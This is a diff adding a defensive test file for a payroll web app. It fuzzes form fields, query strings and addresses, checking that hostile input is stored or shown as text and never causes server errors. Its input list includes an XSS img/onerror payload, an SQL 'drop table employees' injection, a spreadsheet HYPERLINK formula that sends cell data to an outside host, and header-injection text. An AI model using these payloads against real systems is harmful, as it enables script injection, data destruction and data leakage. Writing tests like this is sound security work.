@@ -1,0 +1,96 @@
+import "./support/own-database";
+import { beforeAll, expect, test } from "vitest";
+import { PERMISSIONS } from "~/domain/settings/permissions";
+import { addressedCompany, postingTo } from "./support/addressed-company";
+import { signIn, type Visitor } from "./support/app";
+import { directSql } from "./support/payroll-run";
+import { addressedRoutes, addressOf, type BuiltRoute } from "./support/routes";
+
+/** What people and programs type into fields that were meant for something else. */
+const MARKUP = `<img src=x onerror="alert('kawani')">`;
+const HOSTILE: Record<string, string> = {
+  "50 KB": "N".repeat(50_000),
+  "right to left": "\u202Eتاريخ ١٢٣ \u2066שלום\u2069",
+  emoji: "👩🏽‍🍳🇵🇭💸".repeat(5),
+  NUL: "Ana\u0000Reyes\u0000",
+  controls: "a\u0001b\u001b[31m\r\nBcc: somebody@elsewhere.test",
+  HTML: MARKUP,
+  formula: `=HYPERLINK("https://elsewhere.test?"&A1,"Open")`,
+  SQL: `'); drop table employees; -- %00 \${1+1} {{7*7}}`,
+  "a number beyond all": `${"9".repeat(400)}.99`,
+  "not a number": "NaN",
+  "below zero": "-1",
+  "a day beyond all": "99999-99-99",
+  nothing: "",
+};
+const KINDS = Object.values(HOSTILE);
+/** With numbers and choices as they were, the texts come as far as the table. */
+const KEPT = /Seq$|revision|^step$|Type$|Yn$|idempotencyKey/;
+/** Ends the visit, lasts, or is for programs with a token (tests/routes/flex_ben/usage-api.test.ts). */
+const LEFT_OUT = ["/logout", "/preferences/two-factor", "/api/flex_ben/reversals", "/api/flex_ben/usages"];
+
+let visitor: Visitor;
+let csrf: string;
+let values: Record<string, string | number>;
+
+beforeAll(async () => {
+  const made = await addressedCompany();
+  values = { ...made.values, token: `1.${"t".repeat(43)}` };
+  await directSql(made.company.scope.companySeq, "update accounts set permissions = $1", [PERMISSIONS]);
+  visitor = await signIn(made.company.email);
+  csrf = await visitor.token();
+});
+
+/** Every field of the forms of a page, with what stands in it. */
+async function formsOf(route: BuiltRoute): Promise<{ fields: Map<string, string>; multipart: boolean }> {
+  const page = route.reads && route.page ? (await visitor.request(addressOf(route.pattern, values))).text : "";
+  const controls = page.match(/<(?:input|select|textarea)\b[^>]*\bname="[^"]+"[^>]*>/g) ?? [];
+  const named = controls.map((control): [string, string] => [/\bname="([^"]+)"/.exec(control)![1]!, /\bvalue="([^"]*)"/.exec(control)?.[1] ?? ""]);
+  return { fields: new Map(named.filter(([name]) => !["csrf", "returnTo"].includes(name))), multipart: page.includes('encType="multipart/form-data"') || page.includes('enctype="multipart/form-data"') };
+}
+
+/** As a form with a file sends it. */
+function multipartOf(fields: Record<string, string>): FormData {
+  const form = new FormData();
+  for (const [name, value] of Object.entries({ csrf, ...fields })) form.append(name, value);
+  return form;
+}
+
+test("whatever is typed into a form is stored as text or refused, shown as text, and breaks nothing", { timeout: 180_000 }, async () => {
+  const wrong: string[] = [];
+  let posts = 0;
+  for (const route of addressedRoutes.filter(({ writes, pattern }) => writes && !LEFT_OUT.includes(pattern))) {
+    const { fields, multipart } = await formsOf(route);
+    // Each field gets another kind in each of the turns.
+    for (const turn of [0, 3, 7, 10]) {
+      const form = Object.fromEntries([...fields, ["somethingElse", ""]].map(([name, value], at) => [name, turn > 0 && KEPT.test(name!) && value !== "" ? value : KINDS[(turn + at) % KINDS.length]!]));
+      posts += 1;
+      const answer = await visitor.request(postingTo(route, values), multipart ? { body: multipartOf(form) } : { form, csrf }).catch(() => null);
+      // What is not wanted may be refused before all of it has been sent; a small form is always answered.
+      if (answer === null ? JSON.stringify(form).length < 50_000 : answer.status >= 500 || answer.status === 401 || answer.text.includes(MARKUP)) wrong.push(`POST ${route.pattern} in turn ${turn}: ${answer?.status ?? "no answer"}`);
+    }
+  }
+  expect(posts).toBeGreaterThan(200);
+  expect(wrong).toEqual([]);
+});
+
+test("whatever stands in an address breaks no page", { timeout: 180_000 }, async () => {
+  const wrong: string[] = [];
+  const asked = ["q", "page", "sort", "pageSize", "status", "department", "mode", "startDate", "startSearchDate", "endSearchDate", "schType", "schKeyword", "search", "view", "month", "next", "tab", "step"];
+  for (const route of addressedRoutes.filter(({ reads, pattern }) => reads && !LEFT_OUT.includes(pattern) && !pattern.startsWith("/streams/"))) {
+    for (const turn of [1, 5]) {
+      const query = new URLSearchParams(asked.map((name, at) => [name, KINDS[1 + ((turn + at) % (KINDS.length - 1))]!]));
+      const { status, text } = await visitor.request(`${addressOf(route.pattern, values)}?${query}`);
+      if (status >= 500 || text.includes(MARKUP)) wrong.push(`GET ${route.pattern} in turn ${turn}: ${status}${text.includes(MARKUP) ? ", unescaped" : ""}`);
+    }
+  }
+  expect(wrong).toEqual([]);
+});
+
+// covers: NAV-48
+test("an address that is none is 404 inside the frame, whatever it is made of", async () => {
+  for (const address of ["/%00", "/nowhere/%F0%9F%92%B8", "/payroll/payroll_processing/%3Cscript%3E", "/employees/employees/0", "/employees/employees/99999999999", `/${"a".repeat(3_000)}`]) {
+    const { status, text } = await visitor.request(address);
+    expect([address.slice(0, 60), status, text.includes('<aside class="sidebar">')]).toEqual([address.slice(0, 60), 404, true]);
+  }
+});
